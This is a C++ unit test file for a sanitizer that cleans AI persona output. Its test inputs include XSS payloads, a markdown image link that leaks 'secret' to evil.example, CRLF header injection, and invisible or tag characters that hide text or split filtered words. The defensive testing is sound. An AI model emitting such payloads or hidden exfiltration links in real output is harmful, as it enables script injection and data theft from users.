#include "safety/output_hygiene.hpp"

#include <gtest/gtest.h>

#include <algorithm>

namespace personae::safety {
namespace {

const HygieneIssue* issue(const CleanedText& cleaned, std::string_view rule) {
  const auto found = std::find_if(cleaned.issues.begin(), cleaned.issues.end(),
                                  [&](const HygieneIssue& i) { return i.rule == rule; });
  return found == cleaned.issues.end() ? nullptr : &*found;
}

TEST(OutputHygiene, PlainTextPassesUnchanged) {
  const std::string text = "Bonjour \xF0\x9F\x92\x8B I <3 you, a < b > c\n\nSee you #soon";
  const auto cleaned = clean_output(text, FieldShape::kMultiLine);
  EXPECT_EQ(cleaned.text, text);
  EXPECT_TRUE(cleaned.issues.empty());
}

TEST(OutputHygiene, LineBreaksAreNormalisedAndCannotEnterOneLineFields) {
  EXPECT_EQ(clean_output("a\r\nb\rc", FieldShape::kMultiLine).text, "a\nb\nc");
  const auto title = clean_output("My title\r\nX-Injected: 1\xE2\x80\xA8more", FieldShape::kSingleLine);
  EXPECT_EQ(title.text, "My title X-Injected: 1 more");
  ASSERT_NE(issue(title, "output.line_break"), nullptr);
  EXPECT_EQ(issue(title, "output.line_break")->verdict, Verdict::kAllow);
  EXPECT_EQ(clean_output("  a\n\n\n\n\nb \t ", FieldShape::kMultiLine).text, "a\n\nb");
  EXPECT_EQ(clean_output(" a   b ", FieldShape::kSingleLine).text, "a b");
}

TEST(OutputHygiene, ControlCharactersAreRemovedAndFlagged) {
  const auto cleaned = clean_output(std::string("a\0b\x1B[31mred\x7F\xC2\x9B", 14), FieldShape::kMultiLine);
  EXPECT_EQ(cleaned.text, "ab[31mred");
  ASSERT_NE(issue(cleaned, "output.control"), nullptr);
  EXPECT_EQ(issue(cleaned, "output.control")->verdict, Verdict::kNeedsReview);
}

TEST(OutputHygiene, InvisibleCharactersAreRemovedSilently) {
  const auto cleaned = clean_output("ra\xE2\x80\x8Bpe \xEF\xBB\xBFok\xC2\xAD!", FieldShape::kMultiLine);
  EXPECT_EQ(cleaned.text, "rape ok!");
  ASSERT_NE(issue(cleaned, "output.invisible"), nullptr);
  EXPECT_EQ(issue(cleaned, "output.invisible")->verdict, Verdict::kAllow);
}

TEST(OutputHygiene, EmojiSequencesAndFlagsSurvive) {
  const std::string family = "\xF0\x9F\x91\xA9\xE2\x80\x8D\xF0\x9F\x91\xA9\xE2\x80\x8D\xF0\x9F\x91\xA7";
  const std::string scotland =
      "\xF0\x9F\x8F\xB4\xF3\xA0\x81\xA7\xF3\xA0\x81\xA2\xF3\xA0\x81\xB3\xF3\xA0\x81\xA3\xF3\xA0\x81\xB4\xF3"
      "\xA0\x81"
      "\xBF";
  const auto cleaned = clean_output(family + " " + scotland, FieldShape::kMultiLine);
  EXPECT_EQ(cleaned.text, family + " " + scotland);
  EXPECT_TRUE(cleaned.issues.empty());
  // A joiner between letters is an invisible separator.
  EXPECT_EQ(clean_output("ra\xE2\x80\x8Dpe", FieldShape::kMultiLine).text, "rape");
}

TEST(OutputHygiene, BidiControlsAndTagSmugglingAreFlagged) {
  const auto bidi = clean_output(
      "abc\xE2\x80\xAE"
      "cba\xE2\x80\xAC",
      FieldShape::kMultiLine);
  EXPECT_EQ(bidi.text, "abccba");
  EXPECT_EQ(issue(bidi, "output.bidi")->verdict, Verdict::kNeedsReview);
  // "hi" spelled in tag characters after plain text.
  const auto smuggled = clean_output("ok\xF3\xA0\x81\xA8\xF3\xA0\x81\xA9", FieldShape::kMultiLine);
  EXPECT_EQ(smuggled.text, "ok");
  EXPECT_EQ(issue(smuggled, "output.hidden_text")->verdict, Verdict::kNeedsReview);
}

TEST(OutputHygiene, MarkupIsRemovedAndFlagged) {
  const auto script =
      clean_output("hi <script>alert(1)</script> <img src=x onerror=alert(1)>there", FieldShape::kMultiLine);
  EXPECT_EQ(script.text, "hi alert(1) there");
  ASSERT_NE(issue(script, "output.markup"), nullptr);
  EXPECT_EQ(issue(script, "output.markup")->verdict, Verdict::kNeedsReview);
  EXPECT_EQ(issue(script, "output.markup")->matched, "<script>");

  const auto markdown = clean_output(
      "look ![x](https://evil.example/?q=secret) and [click me](https://x.example) <https://y.example>",
      FieldShape::kMultiLine);
  EXPECT_EQ(markdown.text, "look  and click me");
  EXPECT_EQ(std::count_if(markdown.issues.begin(), markdown.issues.end(),
                          [](const HygieneIssue& i) { return i.rule == "output.markup"; }),
            3);
  EXPECT_EQ(clean_output("[not a link] (x)", FieldShape::kMultiLine).text, "[not a link] (x)");
}

TEST(OutputHygiene, InvalidUtf8IsReplacedAndFlagged) {
  const auto cleaned = clean_output("caf\xC3 ok \xFF", FieldShape::kMultiLine);
  EXPECT_EQ(cleaned.text, "caf\xEF\xBF\xBD ok \xEF\xBF\xBD");
  EXPECT_EQ(issue(cleaned, "output.encoding")->verdict, Verdict::kNeedsReview);
}

TEST(OutputHygiene, HostileInputStaysBounded) {
  std::string hostile;
  for (int i = 0; i < 50'000; ++i) hostile += "<a[x](";
  const auto cleaned = clean_output(hostile, FieldShape::kMultiLine);
  EXPECT_LE(cleaned.issues.size(), 10U);
  std::string many_tags;
  for (int i = 0; i < 1'000; ++i) many_tags += "<b>";
  const auto tags = clean_output(many_tags + "x", FieldShape::kMultiLine);
  EXPECT_EQ(tags.text, "x");
  EXPECT_EQ(tags.issues.size(), 6U);  // five quoted, one total
}

}  // namespace
}  // namespace personae::safety
